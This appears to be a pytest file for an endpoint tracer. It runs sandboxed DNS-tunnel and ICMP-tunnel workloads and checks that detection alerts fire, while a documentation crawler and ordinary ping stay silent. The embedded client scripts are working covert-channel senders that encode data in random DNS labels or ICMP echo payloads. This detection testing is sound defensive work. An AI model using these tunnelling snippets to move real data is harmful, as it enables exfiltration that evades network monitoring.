"""DNS and ICMP tunnels by content, end to end: real programs in the sandbox namespace under `eptrace run`,
a real DNS server and the test host's own ICMP on the other side, and the alerts they must (or must not) raise.

Each run is also captured (`--capture`) and replayed offline: the replay must give the same alerts, which is
what makes the captures usable as fixtures (tests/fixtures/dns_*.capture, icmp_*.capture, copied from these
runs). Time to alert is measured from the start of the act (the workload prints its wall time just before
its first query or echo) and printed as "TIME-TO-ALERT" lines (pytest -s).
"""
from __future__ import annotations

import json
from pathlib import Path

import pytest

from eptrace_helpers import alerts, dump, get, run_eptrace, select
from harness import HOST_IP, HOST_IP6, PYTHON
from test_detection import EpisodeRun, assert_alert, assert_no_alerts, rule_counts, ts
from tracer import decoding
from tracer.capture import entries
from tracer.testbed import dns_server

# Ping sockets (SOCK_DGRAM, IPPROTO_ICMP) need the caller's group in this per-namespace range: open it in the
# sandbox namespace only (the namespace is the test's own, and goes away with it).
OPEN_PING_SOCKETS = "echo '0 2147483647' > /proc/sys/net/ipv4/ping_group_range"


def replayed_rules(capture: Path) -> list[str]:
    """The rules `eptrace replay` raises on a capture (it prints the alert documents)."""
    done = run_eptrace("replay", capture)
    assert done.returncode == 0, done.stderr
    return sorted(get(json.loads(line), "rule.name") for line in done.stdout.splitlines() if line.strip())


def run_captured(tmp_path: Path, episode: str, argv: list) -> EpisodeRun:
    return EpisodeRun(tmp_path, episode, argv, extra_args=["--capture", tmp_path / f"{episode}.capture"])


def check_replay(tmp_path: Path, episode: str, docs: list[dict]) -> None:
    live = sorted(get(d, "rule.name") for d in alerts(docs))
    assert replayed_rules(tmp_path / f"{episode}.capture") == live


def time_to_alert(scenario: str, run: EpisodeRun, alert: dict, start: float) -> None:
    seen = run.first_seen.get(get(alert, "event.id"))
    print(f"\nTIME-TO-ALERT {scenario}: alert @timestamp {(ts(alert) - start) * 1000:+.0f} ms after the start "
          f"of the act; in the output file {(seen - start) * 1000 if seen else float('nan'):.0f} ms after it",
          flush=True)


# ---- DNS ---------------------------------------------------------------------------------------------------

# In the sandbox: A queries to the test host's DNS server, one per name, each waiting for its answer.
# tunnel: 150 unique random base32 labels of 40-50 characters under one domain, 20 a second (under the old
# 200-name and 80-character limits); crawler: 250 readable project names under one documentation domain.
DNS_CLIENT = r'''
import base64, os, random, socket, struct, sys, time
mode, domain, server = sys.argv[1], sys.argv[2], sys.argv[3]
PROJECTS = """numpy scipy pandas requests django flask fastapi pytorch tensorflow keras scikit-learn matplotlib
seaborn pillow opencv-python sqlalchemy alembic celery redis kombu billiard click typer rich textual httpx aiohttp
urllib3 certifi idna charset-normalizer setuptools wheel pip virtualenv poetry black isort flake8 mypy pylint pytest
coverage tox nox hypothesis faker jinja2 markupsafe werkzeug itsdangerous gunicorn uvicorn starlette pydantic attrs
cattrs marshmallow boto3 botocore s3transfer awscli paramiko cryptography pyopenssl bcrypt passlib pyjwt oauthlib
transformers tokenizers datasets accelerate safetensors sentencepiece protobuf grpcio sphinx docutils pygments
babel beautifulsoup4 lxml html5lib scrapy selenium playwright networkx sympy statsmodels xgboost lightgbm catboost
dask distributed numba cython pyarrow polars duckdb jupyter notebook ipython ipykernel tornado twisted gevent
greenlet eventlet pexpect psutil watchdog pyyaml toml tomli simplejson orjson ujson msgpack zstandard lz4 brotli
h5py netcdf4 xarray zarr fsspec s3fs gcsfs tqdm loguru structlog sentry-sdk prometheus-client opentelemetry-api
""".split()
def query(qid, name):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", 1, 1)
if mode == "tunnel":
    rng = random.Random(8)
    names = [base64.b32encode(os.urandom(35)).decode().lower()[:rng.randint(40, 50)] + "." + domain
             for _ in range(150)]
    pause = 0.05
else:
    names = [f"{p}{suffix}.{domain}" for suffix in ("", "-docs") for p in PROJECTS][:250]
    pause = 0.0
assert len(set(names)) == len(names) and max(map(len, names)) < 80, names
print("pid", os.getpid(), flush=True)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(5)
    s.connect((server, 53))
    print("start", time.time(), flush=True)
    for i, name in enumerate(names):
        s.send(query(i, name))
        s.recv(512)
        time.sleep(pause)
print("sent", len(names), flush=True)
'''


@pytest.fixture
def dns(net):
    with dns_server(net) as server:
        yield server


def queried(server) -> list[str]:
    return [line.split()[1] for line in server.stdout if line.startswith("query ")]


def test_dns_tunnel_of_random_labels_under_the_old_limits(net, dns, tmp_path):
    episode, domain = "ep-dns-tunnel", "exfil-test.example"
    with run_captured(tmp_path, episode, net.sandbox_prefix() + [PYTHON, "-u", "-c", DNS_CLIENT, "tunnel",
                                                                  domain, HOST_IP]) as run:
        pid, start = run.pid(), float(run.line("start"))
        alert = run.wait_alert("dns_tunnel", timeout=20)
        docs = run.finish()
    assert len(queried(dns)) == 150
    assert rule_counts(docs) == {"dns_tunnel": 1}, dump(alerts(docs))
    # the flow of the lookups, once its local port is known (a connected UDP socket learns it at its first send)
    lookups = [d for d in select(docs, pid=pid, destination__port=53) if get(d, "network.community_id")]
    assert lookups, dump(docs)
    assert_alert(alert, "dns_tunnel", episode, pid, [domain, "bytes of information", "distinct names"],
                 evidence=lookups[0])
    time_to_alert("dns_tunnel random base32 labels, 20 queries/s", run, alert, start)
    check_replay(tmp_path, episode, docs)


def test_crawler_of_readable_names_is_silent(net, dns, tmp_path):
    episode, domain = "ep-dns-crawler", "readthedocs.example"
    with run_captured(tmp_path, episode, net.sandbox_prefix() + [PYTHON, "-u", "-c", DNS_CLIENT, "crawler",
                                                                  domain, HOST_IP]) as run:
        pid = run.pid()
        run.line("sent")
        docs = run.finish()
    assert len(set(queried(dns))) == 250      # more than the old 200-name limit
    # the tracer saw the lookups: the client's flow to the DNS server, and every query (replayed below)
    assert select(docs, ("connection_attempted", "udp_sent"), pid=pid, destination__port=53), dump(docs)
    assert_no_alerts(docs)
    check_replay(tmp_path, episode, docs)


# ---- ICMP --------------------------------------------------------------------------------------------------

# In the sandbox: a 20,000-byte file sent in 1,000-byte echo payloads, through a ping socket (SOCK_DGRAM,
# IPPROTO_ICMP: no privilege needed; ping6: IPPROTO_ICMPV6) or a raw socket (raw6: ICMPv6 behind a hop-by-hop
# options header), waiting for each reply.
# small: ping-sized echoes (56 bytes), 16 bytes of the file in each where ping puts its send time, then
# ping's own fill pattern.
ICMP_SENDER = r'''
import os, socket, struct, sys, time
kind, dst = sys.argv[1], sys.argv[2]
data = os.urandom(20000)
def checksum(b):
    b += b"\0" * (len(b) % 2)
    total = sum(struct.unpack(f"!{len(b) // 2}H", b))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
if kind in ("ping6", "raw6"):
    stype = socket.SOCK_RAW if kind == "raw6" else socket.SOCK_DGRAM
    s, echo_request = socket.socket(socket.AF_INET6, stype, socket.IPPROTO_ICMPV6), 128
    if kind == "raw6":     # 8 bytes: next header, length 0, PadN of 6
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_HOPOPTS, b"\0\0\x01\x04\0\0\0\0")
else:
    stype = socket.SOCK_RAW if kind == "raw" else socket.SOCK_DGRAM
    s, echo_request = socket.socket(socket.AF_INET, stype, socket.IPPROTO_ICMP), 8
s.settimeout(2)
print("pid", os.getpid(), flush=True)
print("start", time.time(), flush=True)
step = 16 if kind == "small" else 1000
for seq, off in enumerate(range(0, 40 * step if kind == "small" else len(data), step)):
    chunk = data[off:off + step] + (bytes(range(16, 56)) if kind == "small" else b"")
    header = struct.pack("!BBHHH", echo_request, 0, 0, 0x4242, seq)
    header = struct.pack("!BBHHH", echo_request, 0, checksum(header + chunk), 0x4242, seq)
    s.sendto(header + chunk, (dst, 0))
    s.recv(2048)
    time.sleep(0.05)
print("sent", off + step, flush=True)
'''


@pytest.mark.parametrize("kind", ["ping", "raw", "ping6", "raw6"])
def test_icmp_tunnel_of_a_file_in_echo_payloads(net, tmp_path, kind):
    episode, host = f"ep-icmp-{kind}", HOST_IP6 if kind.endswith("6") else HOST_IP
    argv = ["/bin/sh", "-c", f'{OPEN_PING_SOCKETS} && exec "$@"', "sh", PYTHON, "-u", "-c", ICMP_SENDER, kind, host]
    with run_captured(tmp_path, episode, net.sandbox_prefix() + argv) as run:
        pid, start = run.pid(), float(run.line("start"))
        alert = run.wait_alert("icmp_tunnel", timeout=20)
        assert run.line("sent") == "20000"
        docs = run.finish()
    raw = kind.startswith("raw")
    expected = {"icmp_tunnel": 1, "raw_socket": 1} if raw else {"icmp_tunnel": 1}
    assert rule_counts(docs) == expected, dump(alerts(docs))
    assert_alert(alert, "icmp_tunnel", episode, pid, [host, "raw socket" if raw else "ping socket", "carrying data"])
    assert get(alert, "destination.ip") == host, alert
    assert get(alert, "network.transport") == ("ipv6-icmp" if kind.endswith("6") else "icmp"), alert
    assert get(alert, "network.community_id"), alert
    time_to_alert(f"icmp_tunnel 1000-byte echo payloads through a {kind} socket, 20 a second", run, alert, start)
    # the kernel's sums: every echo to the test host carried data, one record per data echo up to 16, then 32
    records = icmp_records(tmp_path / f"{episode}.capture")
    assert [r.data_echoes for r in records] == list(range(1, 17)), records
    last = records[-1]
    assert (last.remote_ip, last.echoes, last.data_bytes, last.largest) == (host, 16, 16000, 1000), last
    assert last.socktype == (3 if raw else 2) and last.header.owner.tgid == pid, last
    check_replay(tmp_path, episode, docs)


def test_icmp_tunnel_in_ping_sized_echoes(net, tmp_path):
    episode = "ep-icmp-small"
    argv = ["/bin/sh", "-c", f'{OPEN_PING_SOCKETS} && exec "$@"', "sh", PYTHON, "-u", "-c", ICMP_SENDER, "small",
            HOST_IP]
    with run_captured(tmp_path, episode, net.sandbox_prefix() + argv) as run:
        pid, start = run.pid(), float(run.line("start"))
        alert = run.wait_alert("icmp_tunnel", timeout=20)
        assert run.line("sent") == "640"
        docs = run.finish()
    assert rule_counts(docs) == {"icmp_tunnel": 1}, dump(alerts(docs))
    # the first echo is small (not data by itself): the next 16 changed, 56 bytes each
    assert_alert(alert, "icmp_tunnel", episode, pid, [HOST_IP, "16 ICMP echo requests carrying data (896 payload"])
    time_to_alert("icmp_tunnel 16 bytes of data in each 56-byte echo, 20 a second", run, alert, start)
    check_replay(tmp_path, episode, docs)


def icmp_records(capture: Path) -> list[decoding.IcmpRecord]:
    """The REC_ICMP_ECHO records of a capture, each checked against the size of struct icmp_record."""
    raws = [e[1] for e in entries(capture)
            if e[0] == "rec" and decoding.HEADER.unpack_from(e[1])[0] == decoding.RecordType.ICMP_ECHO]
    assert all(len(raw) == decoding.ICMP_RECORD_SIZE for raw in raws), [len(raw) for raw in raws]
    return [decoding.decode(raw) for raw in raws]


def test_ordinary_ping_is_silent(net, tmp_path):
    # `ping -c 5`, then `ping -s 1000 -c 5` (large, but the same fill pattern every time)
    episode = "ep-ping"
    script = (f"{OPEN_PING_SOCKETS} && ping -n -c 5 -i 0.2 {HOST_IP} && ping -n -c 5 -i 0.2 -s 1000 {HOST_IP}"
              " && echo pinged")
    with run_captured(tmp_path, episode, net.sandbox_prefix() + ["/bin/sh", "-c", script]) as run:
        run.line("pinged", timeout=30)
        docs = run.finish()
    assert "5 received" in run.out.text(), run.out.text()
    # the tracer saw both pings' sockets and their echoes
    icmp = [d for d in select(docs, "flow_ended") if get(d, "network.transport") == "icmp"]
    assert len(icmp) == 2 and all(get(d, "source.packets") >= 5 for d in icmp), dump(docs)
    assert_no_alerts(docs)
    check_replay(tmp_path, episode, docs)
    # only the large ping's first echo counted as data: its fill pattern repeats
    assert [(r.data_echoes, r.data_bytes) for r in icmp_records(tmp_path / f"{episode}.capture")] == [(1, 1000)]
